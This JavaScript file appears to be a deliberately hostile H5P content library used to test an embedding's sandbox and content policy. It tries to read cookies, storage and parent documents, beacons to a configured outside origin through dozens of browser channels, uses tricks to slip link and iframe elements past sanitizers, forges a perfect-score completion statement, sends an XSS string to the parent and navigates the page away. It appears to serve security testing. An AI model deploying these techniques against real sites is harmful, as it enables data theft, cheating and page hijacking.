/* An approved library that means ill. It tries every way it knows to read what is not its own and
   to tell it elsewhere, and says at the end what it could read. Each way asks for an address of
   its own, so that what arrives can be named. Where: `elsewhere` in its content, another origin. */
(function () {
  'use strict';

  const XHTML = 'http://www.w3.org/1999/xhtml';

  function attempt(found, name, way) {
    try {
      const given = way();
      found[name] = given && given.then ? 'asked' : String(given);
      if (given && given.then) {
        given.then(function (it) { found[name] = 'got ' + it; }, function () { found[name] = 'refused'; });
      }
    } catch (error) {
      found[name] = 'refused';
    }
  }

  function element(name, facts, inside) {
    const made = document.createElement(name);
    Object.keys(facts).forEach(function (key) { made.setAttribute(key, facts[key]); });
    (inside || document.body).appendChild(made);
    return made;
  }

  function markup(text) {
    const place = element('div', {});
    place.innerHTML = text;
    return place;
  }

  const READING = {
    cookie: function () { return document.cookie; },
    cookieByPrototype: function () {
      return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
    },
    localStorage: function () { return localStorage.getItem('geheim'); },
    sessionStorage: function () { return sessionStorage.getItem('geheim'); },
    indexedDb: function () {
      return new Promise(function (yes, no) {
        const asked = indexedDB.open('geheim');
        asked.onsuccess = function () { yes('a database'); };
        asked.onerror = no;
      });
    },
    caches: function () { return caches.keys(); },
    parentDocument: function () { return window.parent.document.title; },
    topDocument: function () { return window.top.document.body.innerHTML; },
    parentAddress: function () { return window.parent.location.href; },
    frameElement: function () { return window.frameElement.ownerDocument.title; },
    ancestors: function () { return document.referrer; },
    opener: function () { return window.opener.document.title; },
    site: function () { return fetch('/h5p-proef/val/lezen/', {credentials: 'include'}).then(text); },
    siteWithoutCors: function () {
      return fetch('/h5p-proef/val/blind/', {credentials: 'include', mode: 'no-cors'}).then(text);
    },
    siteByPost: function () {
      return fetch('/h5p-proef/val/sturen/', {method: 'POST', credentials: 'include', body: 'x'}).then(text);
    },
    siteByXhr: function () {
      return new Promise(function (yes, no) {
        const asked = new XMLHttpRequest();
        asked.open('GET', '/h5p-proef/val/xhr/');
        asked.withCredentials = true;
        asked.onload = function () { yes(asked.responseText); };
        asked.onerror = no;
        asked.send();
      });
    },
    siteAsScript: function () { element('script', {src: '/h5p-proef/val/script/'}); return 'tried'; },
    siteAsPicture: function () { element('img', {src: '/h5p-proef/val/plaatje/'}); return 'tried'; },
    siteByBeacon: function () { navigator.sendBeacon('/h5p-proef/val/baken/', 'x'); return 'tried'; },
    siteInFrame: function () {
      return element('iframe', {src: '/h5p-proef/val/kader/'}).contentDocument.body.innerHTML;
    },
    siteByForm: function () {
      element('form', {action: '/h5p-proef/val/formulier/', method: 'post'}).submit();
      return 'tried';
    }
  };

  function text(answer) { return answer.text(); }

  function ways(at, bare, own) {
    const said = function (name) { return at + '/' + name; };
    const style = function (css) { element('style', {}).textContent = css; };
    const worker = "fetch('" + at + "/NAME').catch(function () {})";
    const blob = function (source, type) { return URL.createObjectURL(new Blob([source], {type: type})); };
    return {
      fetch: function () { return fetch(said('fetch'), {mode: 'no-cors'}); },
      fetchKeepalive: function () { return fetch(said('fetchKeepalive'), {mode: 'no-cors', keepalive: true}); },
      xhr: function () { const it = new XMLHttpRequest(); it.open('POST', said('xhr')); it.send('x'); },
      beacon: function () { navigator.sendBeacon(said('beacon'), 'x'); },
      img: function () { new Image().src = said('img'); },
      srcset: function () { markup('<picture><source srcset="' + said('srcset') + '"><img alt=""></picture>'); },
      svgImage: function () { markup('<svg><image href="' + said('svgImage') + '"></image></svg>'); },
      svgUse: function () { markup('<svg><use href="' + said('svgUse') + '#x"></use></svg>'); },
      input: function () { element('input', {type: 'image', src: said('input')}); },
      css: function () { element('p', {style: 'background: url(' + said('css') + ')'}).textContent = 'x'; },
      cssImport: function () { style('@import url(' + said('cssImport') + ');'); },
      cssFont: function () {
        style('@font-face {font-family: kwaad; src: url(' + said('cssFont') + ')} p {font-family: kwaad}');
        element('p', {}).textContent = 'x';
      },
      fontFace: function () { return new FontFace('erger', 'url(' + said('fontFace') + ')').load(); },
      script: function () { element('script', {src: said('script')}); },
      module: function () { element('script', {src: said('module'), type: 'module'}); },
      stylesheet: function () { element('link', {rel: 'stylesheet', href: said('stylesheet')}); },
      prefetch: function () { element('link', {rel: 'prefetch', href: said('prefetch')}, document.head); },
      prefetchByMarkup: function () { markup('<link rel="prefetch" href="' + said('prefetchByMarkup') + '">'); },
      preload: function () { element('link', {rel: 'preload', as: 'image', href: said('preload')}, document.head); },
      modulepreload: function () { element('link', {rel: 'modulepreload', href: said('modulepreload')}, document.head); },
      prerender: function () { element('link', {rel: 'prerender', href: said('prerender')}, document.head); },
      icon: function () { element('link', {rel: 'icon', href: said('icon')}, document.head); },
      manifest: function () { element('link', {rel: 'manifest', href: said('manifest')}, document.head); },
      audio: function () { new Audio(said('audio')).play().catch(function () {}); },
      video: function () { element('video', {src: said('video'), autoplay: '', poster: said('poster')}); },
      object: function () { element('object', {data: said('object')}); },
      embed: function () { element('embed', {src: said('embed')}); },
      iframe: function () { element('iframe', {src: said('iframe')}); },
      iframeByMarkup: function () { markup('<iframe src="' + said('iframeByMarkup') + '"></iframe>'); },
      srcdoc: function () { element('iframe', {srcdoc: '<img src="' + said('srcdoc') + '">'}); },
      srcdocByProperty: function () {
        element('iframe', {}).srcdoc = '<img src="' + said('srcdocByProperty') + '">';
      },
      dataFrame: function () { element('iframe', {src: 'data:text/html,<img src="' + said('dataFrame') + '">'}); },
      blobFrame: function () {
        element('iframe', {src: blob('<img src="' + said('blobFrame') + '">', 'text/html')});
      },
      blankFrame: function () {
        element('iframe', {}).contentDocument.body.appendChild(new Image()).src = said('blankFrame');
      },
      eventSource: function () { new EventSource(said('eventSource')).onerror = function () { this.close(); }; },
      webSocket: function () { new WebSocket(said('webSocket').replace('http', 'ws')); },
      worker: function () { new Worker(blob(worker.replace('NAME', 'worker'), 'text/javascript')); },
      dataWorker: function () { new Worker('data:text/javascript,' + worker.replace('NAME', 'dataWorker')); },
      sharedWorker: function () { new SharedWorker(blob(worker.replace('NAME', 'sharedWorker'), 'text/javascript')); },
      worklet: function () { return CSS.paintWorklet.addModule(said('worklet')); },
      open: function () { window.open(said('open')); },
      anchor: function () { element('a', {href: said('anchor'), target: '_blank'}).click(); },
      download: function () { element('a', {href: said('download'), download: ''}).click(); },
      ping: function () { element('a', {href: '#x', ping: said('ping')}).click(); },
      form: function () { element('form', {action: said('form'), method: 'post'}).submit(); },
      formElsewhere: function () { element('form', {action: said('formElsewhere'), target: '_blank'}).submit(); },
      speculation: function () {
        element('script', {type: 'speculationrules'}).textContent =
          JSON.stringify({prefetch: [{source: 'list', urls: [said('speculation')]}]});
      },
      inlineScript: function () { element('script', {}).textContent = "new Image().src = '" + said('inlineScript') + "'"; },
      inlineHandler: function () { markup('<img src="x" onerror="new Image().src=\'' + said('inlineHandler') + '\'">'); },
      evaluated: function () { new Function("new Image().src = '" + said('evaluated') + "'")(); },
      timer: function () { window.setTimeout("new Image().src = '" + said('timer') + "'", 0); },
      base: function () { markup('<base href="' + at + '/base/">'); new Image().src = 'plaatje.png'; },
      attribution: function () { markup('<img attributionsrc="' + said('attribution') + '">'); },
      top: function () { window.top.location = said('top'); },
      parent: function () { window.parent.location.replace(said('parent')); },
      // Ways that ask for no address: that something connects is enough.
      preconnect: function () { element('link', {rel: 'preconnect', href: bare.preconnect}, document.head); },
      preconnectByMarkup: function () { markup('<link rel="preconnect" href="' + bare.preconnectByMarkup + '">'); },
      preconnectLater: function () {
        const link = element('link', {rel: 'stylesheet'}, document.head);
        link.setAttribute('href', bare.preconnectLater);
        link.relList.add('preconnect');
      },
      webTransport: function () { new WebTransport(bare.webTransport.replace('http:', 'https:') + '/x'); },
      peer: function () { connect(window, bare.peer); },
      peerOfBlankFrame: function () { connect(element('iframe', {}).contentWindow, bare.peerOfBlankFrame); },
      peerOfCount: function () { markup('<iframe></iframe>'); connect(window[0], bare.peerOfCount); },
      peerOfSrcdoc: function () {
        element('iframe', {srcdoc: '<script src="' + own + '#' + bare.peerOfSrcdoc + '"></script>'});
      },
      peerOfDataFrame: function () {
        const script = '<script src="' + own + '#' + bare.peerOfDataFrame + '"></script>';
        element('iframe', {src: 'data:text/html,' + encodeURIComponent(script)});
      },
      peerOfBlobFrame: function () {
        element('iframe', {
          src: blob('<script src="' + own + '#' + bare.peerOfBlobFrame + '"></script>', 'text/html')
        });
      }
    };
  }

  function connect(realm, address) {
    const port = address.split(':').pop();
    const servers = [{urls: 'turn:127.0.0.1:' + port + '?transport=tcp', username: 'x', credential: 'x'}];
    const peer = new realm.RTCPeerConnection({iceServers: servers, iceTransportPolicy: 'relay'});
    peer.createDataChannel('x');
    peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); });
    window.peers = (window.peers || []).concat(peer);
  }

  /* Elements that would open a way; `made` tells which of these tricks gave a real one. */
  const MAKING = {
    link: function () { return document.createElement('LINK'); },
    iframe: function () { return document.createElement('iframe'); },
    linkByNamespace: function () { return document.createElementNS('http://www.w3.org/1999/xhtml', 'a:link'); },
    linkElsewhere: function () {
      return document.implementation.createHTMLDocument('').createElement('link');
    },
    linkByCustom: function () {
      class Sly extends HTMLLinkElement {}
      customElements.define('x-sly', Sly, {extends: 'link'});
      return new Sly();
    },
    linkByXml: function () {
      const xml = '<!DOCTYPE a [<!ENTITY b "&#60;link xmlns=\'http://www.w3.org/1999/xhtml\'/>">]><a>&b;</a>';
      const read = new DOMParser().parseFromString(xml, 'text/xml');
      return document.importNode(read.documentElement, true).querySelector('link');
    },
    linkByPrefix: function () {
      const xml = '<a:link xmlns:a="http://www.w3.org/1999/xhtml"/>';
      return document.importNode(new DOMParser().parseFromString(xml, 'text/xml').documentElement, true);
    },
    linkByTemplate: function () {
      const template = document.createElement('template');
      template.innerHTML = '<LiNk>';
      return template.content.firstChild;
    },
    linkByRange: function () {
      return document.createRange().createContextualFragment('<link>').firstChild;
    },
    linkBySafeHtml: function () {
      const place = document.createElement('div');
      place.setHTML('<link>', {sanitizer: {elements: ['link']}});
      return place.firstChild;
    },
    linkByCopy: function () { return document.querySelector('link').cloneNode(); },
    linkByLies: function () {
      const was = [String.prototype.replace, String.prototype.toLowerCase, RegExp.prototype.exec];
      String.prototype.replace = function () { return '<link>'; };
      String.prototype.toLowerCase = function () { return 'p'; };
      RegExp.prototype.exec = function () { return null; };
      const place = document.createElement('div');
      place.innerHTML = '<link>';
      [String.prototype.replace, String.prototype.toLowerCase, RegExp.prototype.exec] = was;
      return place.firstChild;
    },
    linkByDocument: function () {
      return document.adoptNode(document.implementation.createDocument(XHTML, 'link').documentElement);
    },
    iframeByDocument: function () {
      return document.importNode(document.implementation.createDocument(XHTML, 'a:iframe').documentElement, true);
    },
    iframeByPieces: function () { return document.getElementById('stukjes'); },
    linkByPiecesElsewhere: function () {
      const other = document.implementation.createHTMLDocument('');
      other.open();
      other.write('<li');
      other.write('nk id="q">');
      return document.adoptNode(other.getElementById('q'));
    },
    iframeByLines: function () {
      const other = document.implementation.createHTMLDocument('');
      Document.prototype.writeln.call(other, '<iframe', ' id="q">');
      Document.prototype.writeln.call(other, '<if');
      Document.prototype.write.call(other, 'rame>');
      return document.adoptNode(other.querySelector('iframe'));
    },
    linkByXmlMarkup: function () {
      const place = new Document().createElementNS(XHTML, 'div');
      place.innerHTML = '<a:link xmlns:a="' + XHTML + '"/>';
      return document.adoptNode(place.firstChild);
    },
    iframeByXmlMarkup: function () {
      const other = new Document();
      other.appendChild(other.createElementNS(XHTML, 'p'));
      other.documentElement.insertAdjacentHTML('beforeend', '<x:y xmlns:x="u"><b:iframe xmlns:b="' + XHTML + '"/></x:y>');
      return document.importNode(other.documentElement, true).querySelector('iframe, *|iframe');
    },
    linkByXmlRange: function () {
      const other = new Document();
      const range = other.createRange();
      range.selectNode(other.appendChild(other.createElementNS(XHTML, 'p')));
      return document.adoptNode(range.createContextualFragment('<a:link xmlns:a="' + XHTML + '"/>').firstChild);
    },
    linkByMarkupElsewhere: function () {
      const other = document.implementation.createHTMLDocument('');
      other.body.innerHTML = '<link>';
      return document.adoptNode(other.querySelector('link'));
    },
    iframeByAdjacent: function () {
      const place = document.createElement('template').content.ownerDocument.createElement('div');
      place.insertAdjacentHTML('beforeend', '<iframe>');
      return document.adoptNode(place.firstChild);
    },
    linkByUnsafeHtml: function () {
      const place = document.createElement('div');
      place.setHTMLUnsafe('<link>');
      return place.firstChild;
    },
    linkByUnsafeDocument: function () {
      return document.adoptNode(Document.parseHTMLUnsafe('<link>').querySelector('link'));
    },
    iframeByShadow: function () {
      const shadow = document.createElement('div').attachShadow({mode: 'open'});
      shadow.innerHTML = '<iframe>';
      return shadow.firstChild;
    },
    iframeByDeclaredShadow: function () {
      const place = document.createElement('div');
      place.setHTMLUnsafe('<p><template shadowrootmode="open"><iframe></iframe></template></p>');
      return place.firstChild.shadowRoot.firstChild;
    },
    iframeByStyles: function () {
      const sheet = new DOMParser().parseFromString(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
        '<xsl:element name="iframe" namespace="' + XHTML + '"/></xsl:template></xsl:stylesheet>', 'text/xml');
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      return processor.transformToFragment(sheet, document).firstChild;
    },
    iframeByEditing: function () {
      const place = element('div', {contenteditable: 'true'});
      place.focus();
      document.execCommand('insertHTML', false, '<iframe></iframe>');
      return place.querySelector('iframe');
    },
    metaByCopy: function () { return document.querySelector('meta').cloneNode(); },
    linkByTwoNames: function () {
      let asked = 0;
      return document.createElement({toString: function () { asked += 1; return asked > 1 ? 'link' : 'p'; }});
    }
  };

  function isReal(element) {
    const kinds = [HTMLLinkElement, HTMLIFrameElement, HTMLMetaElement];
    return kinds.some(function (kind) { return element instanceof kind; });
  }

  /* The last ways: nothing of the page is left after them. */
  const LEAVING = {
    writing: function (at) { document.write('<img src="' + at + '/writing">'); },
    refresh: function (at) { element('meta', {'http-equiv': 'refresh', content: '0; url=' + at + '/refresh'}); },
    leave: function (at, content) { window.location = content.leaveTo || at + '/leave'; }
  };

  function forge() {
    const statement = {
      verb: {id: 'http://adlnet.gov/expapi/verbs/completed'},
      object: {id: 'urn:x'},
      result: {score: {raw: 100, max: 100, scaled: 1}, success: true, completion: true}
    };
    window.parent.postMessage({h5p: 1, type: 'statement', statement: statement, touched: true}, '*');
    window.parent.postMessage({h5p: 1, type: 'failed', reason: '<img src=x onerror=alert(1)>'}, '*');
    window.parent.postMessage({h5p: 1, type: 'size', height: '100vh;background:url(x)'}, '*');
    window.parent.postMessage('niets', '*');
  }

  const own = document.currentScript.src;
  if (window.parent !== window) {
    attempt({}, 'pieces', function () { // while the page is read
      document.write('<if');
      document.write('rame id="stukjes"></iframe>');
    });
  }

  function run(content) {
    const found = {};
    const tried = {};
    const made = {};
    Object.keys(READING).forEach(function (name) { attempt(found, name, READING[name]); });
    const all = ways(content.elsewhere, content.bare, own);
    Object.keys(all).filter(function (name) {
      return !content.only || content.only.includes(name);
    }).forEach(function (name) { attempt(tried, name, all[name]); });
    Object.keys(MAKING).forEach(function (name) {
      attempt(made, name, function () { return isReal(MAKING[name]()); });
    });
    forge();
    window.setTimeout(function () {
      window.parent.postMessage({hostile: true, found: found, tried: tried, made: made}, '*');
      window.setTimeout(function () {
        Object.keys(LEAVING).filter(function (name) {
          return !content.only || content.only.includes(name);
        }).forEach(function (name) {
          attempt(tried, name, function () { LEAVING[name](content.elsewhere, content); });
        });
      }, 500);
    }, 2000);
  }

  /* Alone, on a page without any policy: what the browser can do at all. */
  function runOne(content, name) {
    const all = ways(content.elsewhere, content.bare, own);
    return all[name] ? all[name]() : LEAVING[name](content.elsewhere, content);
  }

  if (own.includes('#http')) { // in a frame within the frame
    connect(window, own.split('#')[1]);
  }
  window.Kwaad = {isReal: isReal, MAKING: MAKING, names: Object.keys(ways('', {}, '')).concat(Object.keys(LEAVING)), runOne: runOne};
  window.H5P = window.H5P || {};
  window.H5P.Kwaad = function (content) {
    this.attach = function ($container) {
      const place = $container.get ? $container.get(0) : $container;
      place.textContent = 'Kwaad';
      run(content);
    };
  };
})();
